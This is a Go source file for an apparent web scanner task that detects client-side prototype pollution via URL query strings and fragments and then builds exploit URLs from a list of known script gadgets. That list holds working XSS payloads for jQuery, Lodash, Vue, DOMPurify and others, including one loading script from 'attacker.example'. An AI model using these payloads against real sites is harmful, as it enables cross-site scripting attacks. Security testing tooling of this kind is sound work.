@@ -0,0 +1,221 @@
+package tasks
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"path"
+	"regexp"
+	"strings"
+
+	"github.com/chromedp/chromedp"
+	"github.com/danielthatcher/spydom/config"
+)
+
+// pollutionVector describes a way of polluting Object.prototype through the URL. Format
+// contains the marker property name and value. Prefix is how the vector refers to the
+// prototype, and Dot is set for vectors which use dot notation for property names.
+type pollutionVector struct {
+	Name     string
+	Fragment bool
+	Format   string
+	Prefix   string
+	Dot      bool
+}
+
+var pollutionVectors = []pollutionVector{
+	{"query __proto__[x]", false, "__proto__[%s]=%[1]s", "__proto__", false},
+	{"query __proto__.x", false, "__proto__.%s=%[1]s", "__proto__", true},
+	{"query constructor[prototype][x]", false, "constructor[prototype][%s]=%[1]s", "constructor[prototype]", false},
+	{"query constructor.prototype.x", false, "constructor.prototype.%s=%[1]s", "constructor.prototype", true},
+	{"fragment __proto__[x]", true, "__proto__[%s]=%[1]s", "__proto__", false},
+	{"fragment __proto__.x", true, "__proto__.%s=%[1]s", "__proto__", true},
+	{"fragment constructor[prototype][x]", true, "constructor[prototype][%s]=%[1]s", "constructor[prototype]", false},
+	{"fragment constructor.prototype.x", true, "constructor.prototype.%s=%[1]s", "constructor.prototype", true},
+}
+
+// bracketProperty matches a property name in bracket notation, such as [src]. Empty brackets,
+// which append to an array, have no equivalent in dot notation and are left alone.
+var bracketProperty = regexp.MustCompile(`\[([^\[\]]+)\]`)
+
+// gadgetPayload rewrites a gadget payload, which is written with __proto__[x] keys, in the
+// syntax of the vector
+func (v pollutionVector) gadgetPayload(payload string) string {
+	params := strings.Split(payload, "&")
+	for i, p := range params {
+		kv := strings.SplitN(p, "=", 2)
+		if !strings.HasPrefix(kv[0], "__proto__") {
+			continue
+		}
+		key := strings.TrimPrefix(kv[0], "__proto__")
+		if v.Dot {
+			key = bracketProperty.ReplaceAllString(key, ".$1")
+		}
+		kv[0] = v.Prefix + key
+		params[i] = strings.Join(kv, "=")
+	}
+	return strings.Join(params, "&")
+}
+
+// url returns u with the vector added to its query string or fragment
+func (v pollutionVector) url(u string, payload string) string {
+	u = strings.SplitN(u, "#", 2)[0]
+	if v.Fragment {
+		return u + "#" + payload
+	}
+	if strings.Contains(u, "?") {
+		return u + "&" + payload
+	}
+	return u + "?" + payload
+}
+
+// pollutionCheckJS returns whether Object.prototype has the given marker property
+const pollutionCheckJS = `Object.prototype.hasOwnProperty.call(Object.prototype, %q)`
+
+// pollutionGadget is a known script gadget which can be used to turn prototype pollution into
+// script execution. Detect is a JavaScript expression which returns the library's version, or
+// any other truthy value, if the library is loaded.
+type pollutionGadget struct {
+	Library string
+	Detect  string
+	Payload string
+}
+
+// pollutionGadgets are script gadgets in common libraries, largely taken from
+// https://github.com/BlackFan/client-side-prototype-pollution
+var pollutionGadgets = []pollutionGadget{
+	{"jQuery", "jQuery.fn.jquery", "__proto__[preventDefault]=x&__proto__[handleObj]=x&__proto__[delegateTarget]=<img/src/onerror=alert(1)>"},
+	{"jQuery", "jQuery.fn.jquery", "__proto__[url][]=data:,alert(1)//&__proto__[dataType]=script"},
+	{"jQuery", "jQuery.fn.jquery", "__proto__[src][]=data:,alert(1)//"},
+	{"Lodash", "_.templateSettings && _.VERSION", "__proto__[sourceURL]=%E2%80%A8%E2%80%A9alert(1)"},
+	{"Vue.js", "Vue.version", "__proto__[v-if]=_c.constructor('alert(1)')()"},
+	{"DOMPurify", "DOMPurify.version || DOMPurify.isSupported", "__proto__[ALLOWED_ATTR][0]=onerror&__proto__[ALLOWED_ATTR][1]=src"},
+	{"js-xss", "filterXSS", "__proto__[whiteList][img][0]=onerror&__proto__[whiteList][img][1]=src"},
+	{"sanitize-html", "sanitizeHtml", "__proto__[*][]=onload"},
+	{"Closure", "goog.require", "__proto__[CLOSURE_BASE_PATH]=data:,alert(1)//"},
+	{"Knockout.js", "ko.version", "__proto__[4]=a':1,[alert(1)]:1,'b&__proto__[5]=,"},
+	{"Marionette.js", "Marionette.VERSION", "__proto__[tagName]=img&__proto__[src][]=x:&__proto__[onerror][]=alert(1)"},
+	{"Adobe DTM", "_satellite", "__proto__[src]=data:,alert(1)//"},
+	{"Akamai Boomerang", "BOOMR.version", "__proto__[BOOMR]=1&__proto__[url]=//attacker.example/xss.js"},
+	{"Segment Analytics.js", "analytics.VERSION", "__proto__[script][0]=1&__proto__[script][1]=<img/src/onerror=alert(1)>&__proto__[script][2]=1"},
+	{"Google reCAPTCHA", "grecaptcha", "__proto__[srcdoc][]=<script>alert(1)</script>"},
+	{"Embedly", "embedly", "__proto__[onload]=alert(1)"},
+}
+
+// gadgetDetectJS wraps a gadget's Detect expression so that it returns a string
+const gadgetDetectJS = `
+	(function() {
+		try {
+			let v = (%s);
+			return v ? String(v) : "";
+		} catch (e) {
+			return "";
+		}
+	})()`
+
+// GadgetInfo describes a script gadget found on a polluted page
+type GadgetInfo struct {
+	Library string `json:"library"`
+	Version string `json:"version"`
+	Payload string `json:"payload"`
+	URL     string `json:"url"`
+}
+
+// PollutionFinding records a vector which polluted Object.prototype
+type PollutionFinding struct {
+	Vector  string        `json:"vector"`
+	URL     string        `json:"url"`
+	Gadgets []*GadgetInfo `json:"gadgets"`
+}
+
+// PollutionResult is written by the PrototypePollution task
+type PollutionResult struct {
+	Vectors  []string            `json:"vectors"`
+	Findings []*PollutionFinding `json:"findings"`
+}
+
+// The PrototypePollution task loads the page with prototype pollution probes in the query
+// string and fragment, and looks for known script gadgets on pages which are polluted
+type PrototypePollution struct{}
+
+func (t *PrototypePollution) Priority() uint8 {
+	return 3
+}
+
+func (t *PrototypePollution) Slug() string {
+	return "protopollution"
+}
+
+func (t *PrototypePollution) Description() string {
+	return "Detect client-side prototype pollution through the query string and fragment, and look for known script gadgets"
+}
+
+func (t *PrototypePollution) Init(c *config.Config) error {
+	return nil
+}
+
+func (t *PrototypePollution) Active() bool {
+	return true
+}
+
+func (t *PrototypePollution) Run(ctx context.Context, url string, absDir string, relDir string) error {
+	var loc string
+	if err := chromedp.Run(ctx, chromedp.Location(&loc)); err != nil {
+		return fmt.Errorf("failed to retrieve page location: %v", err)
+	}
+
+	res := &PollutionResult{Vectors: []string{}, Findings: []*PollutionFinding{}}
+	for _, v := range pollutionVectors {
+		marker := newCanary()
+		u := v.url(loc, fmt.Sprintf(v.Format, marker))
+		if err := reload(ctx, u, ""); err != nil {
+			return err
+		}
+		res.Vectors = append(res.Vectors, v.Name)
+
+		var polluted bool
+		if err := chromedp.Run(ctx, chromedp.Evaluate(fmt.Sprintf(pollutionCheckJS, marker), &polluted)); err != nil {
+			return fmt.Errorf("failed to check Object.prototype: %v", err)
+		}
+		if !polluted {
+			continue
+		}
+
+		f := &PollutionFinding{Vector: v.Name, URL: u, Gadgets: []*GadgetInfo{}}
+		for _, g := range pollutionGadgets {
+			var version string
+			if err := chromedp.Run(ctx, chromedp.Evaluate(fmt.Sprintf(gadgetDetectJS, g.Detect), &version)); err != nil {
+				return fmt.Errorf("failed to fingerprint %s: %v", g.Library, err)
+			}
+			if version == "" {
+				continue
+			}
+
+			// Gadgets are written for __proto__[x] in the query string, so use the syntax of
+			// the vector which worked
+			payload := v.gadgetPayload(g.Payload)
+			f.Gadgets = append(f.Gadgets, &GadgetInfo{
+				Library: g.Library,
+				Version: version,
+				Payload: payload,
+				URL:     v.url(loc, payload),
+			})
+		}
+		res.Findings = append(res.Findings, f)
+	}
+
+	// Leave the page as it was found for any later tasks
+	if err := reload(ctx, loc, ""); err != nil {
+		return err
+	}
+
+	b, err := json.MarshalIndent(res, "", "  ")
+	if err != nil {
+		return fmt.Errorf("failed to encode prototype pollution results: %v", err)
+	}
+	if err := ioutil.WriteFile(path.Join(absDir, "protopollution.json"), b, 0644); err != nil {
+		return fmt.Errorf("failed to write prototype pollution results to file: %v", err)
+	}
+	return nil
+}